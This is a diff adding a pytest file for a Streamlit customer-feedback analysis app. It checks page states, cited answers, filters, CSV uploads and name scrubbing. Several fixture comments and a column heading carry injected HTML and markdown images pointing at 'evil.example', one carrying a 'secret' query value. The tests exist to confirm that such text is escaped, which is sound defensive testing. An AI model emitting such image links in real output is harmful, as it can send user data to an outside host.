@@ -1,0 +1,283 @@
+"""Each screen over a real store with fake models, without a browser."""
+
+import re
+from types import SimpleNamespace
+
+import pytest
+import streamlit as st
+from fakes import make_workspace, write_csv
+from streamlit.testing.v1 import AppTest
+
+from analyzer.config import PROJECT
+from analyzer.errors import ModelError
+from analyzer.ui import session
+
+IMAGE = "The parcel came late <img src=http://evil.example/x>."
+MARKDOWN = "The parcel came late ![x](http://evil.example/?q=secret)."
+ROWS = [
+    {"id": "C-1", "comment": "The parcel came late.", "channel": "email", "rating": 2, "date": "2024-01-05"},
+    {"id": "C-2", "comment": IMAGE, "channel": "app", "rating": 1, "date": "2024-01-06"},
+    {
+        "id": "C-3",
+        "comment": "The parcel came late, says Ann Lee.",
+        "channel": "app",
+        "rating": 3,
+        "date": "2024-02-07",
+    },
+    {"id": "C-4", "comment": "Waiter friendly, soup hot.", "channel": "store", "rating": 5, "date": "2024-02-08"},
+    {"id": "C-5", "comment": MARKDOWN, "channel": "app", "rating": 4, "date": "2024-02-09"},
+    *(
+        {"id": f"N-{n}", "comment": f"Note {n}: all well.", "channel": "store", "rating": 5, "date": f"2024-03-{n:02d}"}
+        for n in range(1, 16)
+    ),
+]
+QUESTION = "Was the parcel late?"
+HONEST = "A: People say the parcel came late."
+ASK, EXPLORE, ADD = (f"analyzer/ui/pages/{name}.py" for name in ("ask", "explore", "add_data"))
+
+
+@pytest.fixture
+def held(tmp_path, monkeypatch):
+    """The workspace that the page will open: empty, with fake models."""
+    workspace = make_workspace(tmp_path)
+    st.cache_resource.clear()
+    monkeypatch.setattr(session, "Workspace", SimpleNamespace(open=lambda path, actor: workspace))
+    yield workspace
+    st.cache_resource.clear()
+    workspace.close()
+
+
+@pytest.fixture
+def filled(held, tmp_path):
+    held.ingest([write_csv(tmp_path / "feedback.csv", ROWS)])
+    return held
+
+
+def show(page=ASK):
+    """Open the app on one page; nothing on it may have failed."""
+    app = AppTest.from_file(str(PROJECT / "app.py"), default_timeout=60).run()
+    if page != ASK:
+        app.switch_page(page).run()
+    assert not app.exception
+    return app
+
+
+def html(app):
+    """All the HTML that the page writes itself."""
+    return "\n".join(element.proto.body for element in app.get("html"))
+
+
+def ask(app, question=QUESTION):
+    next(t for t in app.text_input if t.label == "Question").set_value(question)
+    next(b for b in app.button if b.label == "Ask").click()
+    return app.run()
+
+
+@pytest.mark.parametrize(("page", "title"), [(ASK, "Ask your feedback"), (EXPLORE, "Explore the comments")])
+def test_an_empty_workspace_says_what_to_do(held, page, title):
+    app = show(page)
+    assert [t.value for t in app.title] == [title]
+    assert "There are no comments yet" in app.info[0].value
+    assert not app.text_input
+
+
+def test_adding_data_starts_with_an_invitation(held):
+    app = show(ADD)
+    assert [t.value for t in app.title] == ["Add data"]
+    assert "Nothing is stored before you have seen how it will be read" in app.info[0].value
+    assert not app.button
+
+
+def test_the_side_bar_says_that_there_is_one_user_and_nothing_leaves(filled):
+    captions = [caption.value for caption in show().sidebar.caption]
+    assert captions[0].endswith("20 comments")
+    assert "no sign-in" in captions[1]
+
+
+def test_an_answer_is_shown_with_the_comments_behind_it(filled):
+    filled.llm.enqueue(HONEST)
+    app = ask(show())
+    assert not app.exception
+    assert "People say the parcel came late." in html(app)
+    labels = [expander.label for expander in app.expander]
+    assert any(label.startswith("[1] The parcel came late") for label in labels)
+    assert "<mark>The parcel came late.</mark>" in html(app)
+    assert re.search(r"20 of 20 comments searched \(all comments\).* receipt a-[0-9a-f]{16}", html(app))
+
+
+def test_what_a_comment_says_is_text_and_never_markup(filled):
+    filled.llm.enqueue(HONEST)
+    app = ask(show())
+    shown = html(app)
+    assert "&lt;img src=http://evil.example/" in shown
+    assert "<img" not in shown
+    labels = [expander.label for expander in app.expander if "evil" in expander.label]
+    assert len(labels) == 2
+    assert not [label for label in labels if re.search(r"(?<!\\)[<!`*\[]", label.partition(" ")[2])]
+    written = [element.value for element in (*app.markdown, *app.caption, *app.info, *app.error, *app.warning)]
+    assert not [text for text in written if "evil.example" in text]
+
+
+def test_a_lie_of_the_model_is_never_shown(filled):
+    filled.llm.enqueue("A: People say 100 % of everything is a lie about <b>Ann Lee</b>.")
+    app = ask(show())
+    everything = html(app) + "".join(element.value for element in (*app.markdown, *app.caption, *app.info))
+    assert "Nothing in the 20 comments searched answers this." in app.info[0].value
+    assert "lie about" not in everything
+    assert any(expander.label == "The nearest comments" for expander in app.expander)
+
+
+def test_an_empty_question_asks_for_one(filled):
+    app = ask(show(), "  ")
+    assert "Type a question first" in app.warning[0].value
+    assert filled.llm.prompts == []
+
+
+def test_the_newest_answer_stands_first(filled):
+    filled.llm.enqueue(HONEST, HONEST)
+    app = ask(ask(show()), "Did the parcel come late?")
+    shown = html(app)
+    assert [heading.value for heading in app.subheader] == ["Earlier questions"]
+    assert shown.index("Did the parcel come late?") < shown.index(QUESTION)
+
+
+def test_a_failing_model_is_one_line(filled, monkeypatch):
+    def fail(*_):
+        raise ModelError("the answering model failed; run: analyzer models fetch")
+
+    monkeypatch.setattr(filled.llm, "complete", fail)
+    app = ask(show())
+    assert not app.exception
+    assert [error.value.replace("\u2060\\", "") for error in app.error] == [
+        "the answering model failed; run: analyzer models fetch"
+    ]
+
+
+@pytest.mark.parametrize("page", [ASK, EXPLORE])
+def test_a_wrong_filter_is_one_line(filled, page):
+    app = show(page)
+    next(t for t in app.text_input if t.label == "Or type a filter").set_value("shoe_size=44").run()
+    assert not app.exception
+    assert len(app.error) == 1
+    assert "shoe" in app.error[0].value
+    assert "Traceback" not in app.error[0].value
+
+
+def test_the_menus_make_the_filter_of_the_question(filled):
+    app = show()
+    app.multiselect[0].set_value(["app"])
+    next(s for s in app.select_slider if s.label == "Rating").set_range(1, 2)
+    app.run()
+    assert not app.exception
+    assert "1 comments match: channel in" in html(app)
+    filled.llm.enqueue(HONEST)
+    ask(app)
+    assert "1 of 20 comments searched" in html(app)
+
+
+def test_explore_lists_the_comments_and_counts_them_by_a_column(filled):
+    app = show(EXPLORE)
+    table = app.dataframe[0].value
+    assert list(table.index) == sorted(row["id"] for row in ROWS)
+    assert table.loc["C-3", "comment"] == "The parcel came late, says <PERSON_1>."
+    assert [box.label for box in app.selectbox] == ["Count by"]
+    assert len(app.get("vega_lite_chart") or app.get("arrow_vega_lite_chart")) == 1
+
+
+def test_explore_counts_by_every_column_it_offers(filled):
+    app = show(EXPLORE)
+    for option in app.selectbox[0].options:
+        app.selectbox[0].set_value(next(c for c in filled.status().columns if c.label == option)).run()
+        assert not app.exception, option
+        assert not app.error, option
+
+
+def test_explore_finds_by_words(filled):
+    app = show(EXPLORE)
+    next(t for t in app.text_input if t.label == "Search").set_value("friendly waiter").run()
+    assert not app.exception
+    assert app.dataframe[0].value.index[0] == "C-4"
+    assert any("best matches among 20 comments" in caption.value for caption in app.caption)
+
+
+def test_explore_says_when_nothing_matches(filled):
+    app = show(EXPLORE)
+    next(t for t in app.text_input if t.label == "Or type a filter").set_value("rating>5").run()
+    assert not app.exception
+    assert "No comment matches" in app.info[0].value
+
+
+UPLOAD = b"id,comment,channel,phone_note\nD-1,The soup was cold says Ann Lee.,store,x\nD-2,Refund took weeks.,app,y\n"
+
+
+def upload(name="more.csv", content=UPLOAD):
+    app = show(ADD)
+    app.file_uploader[0].set_value((name, content, "text/csv"))
+    return app.run()
+
+
+def test_an_upload_is_previewed_scrubbed_and_not_yet_stored(filled):
+    app = upload()
+    assert not app.exception
+    assert not app.error
+    preview = app.dataframe[0].value
+    assert list(preview["column"]) == ["id", "comment", "channel", "phone_note"]
+    assert "<PERSON_1>" in preview["examples, scrubbed"][1]
+    assert "Ann Lee" not in preview.to_string()
+    assert filled.count() == 20
+
+
+def test_an_upload_is_imported_as_its_columns_were_read(filled):
+    app = upload()
+    next(b for b in app.button if b.label == "Import").click().run()
+    assert not app.exception
+    assert not app.error
+    assert app.success[0].value.startswith("2 comments stored")
+    assert {metric.label: metric.value for metric in app.metric} == {
+        "Rows": "2", "Stored": "2", "Duplicates": "0", "Rejected": "0",
+    }  # fmt: skip
+    assert filled.show(["D-1"])[0].text == "The soup was cold says <PERSON_1>."
+
+
+def test_the_roles_that_were_chosen_are_the_roles_that_are_used(filled):
+    app = upload(content=b"id,comment,notes\nD-1,Fine.,The staff at the counter could not have been kinder to us.\n")
+    next(box for box in app.selectbox if box.label == "Text").set_value("notes").run()
+    next(b for b in app.button if b.label == "Import").click().run()
+    assert not app.exception
+    assert not app.error
+    assert filled.show(["D-1"])[0].text.startswith("The staff at the counter")
+
+
+def test_a_file_that_cannot_be_read_is_one_line(held):
+    app = upload("broken.xlsx", b"this is no workbook")
+    assert not app.exception
+    assert len(app.error) == 1
+    assert "Traceback" not in app.error[0].value
+    assert held.count() == 0
+
+
+def test_a_first_import_fills_an_empty_workspace(held):
+    app = upload()
+    next(b for b in app.button if b.label == "Import").click().run()
+    assert not app.exception
+    assert held.count() == 2
+
+
+def test_column_headings_are_text_and_never_markup(held, tmp_path):
+    heading = "![x](http://evil.example/h) <b>where</b>"
+    rows = [
+        {"comment": f"The parcel came late again, number {n}.", heading: ("north", "south")[n % 2]} for n in range(12)
+    ]
+    held.ingest([write_csv(tmp_path / "odd.csv", rows)], {"keep": heading})
+    app = show()
+    [menu] = app.multiselect
+    assert "![x](" not in menu.label
+    assert menu.label.replace("\u2060\\", "") == heading
+
+
+def test_a_workspace_that_is_not_there_is_one_line(tmp_path, monkeypatch):
+    st.cache_resource.clear()
+    monkeypatch.setenv("ANALYZER_WORKSPACE", str(tmp_path / "nowhere"))
+    app = AppTest.from_file(str(PROJECT / "app.py"), default_timeout=60).run()
+    assert not app.exception
+    assert "analyzer init" in app.error[0].value.replace("\u2060\\", "")
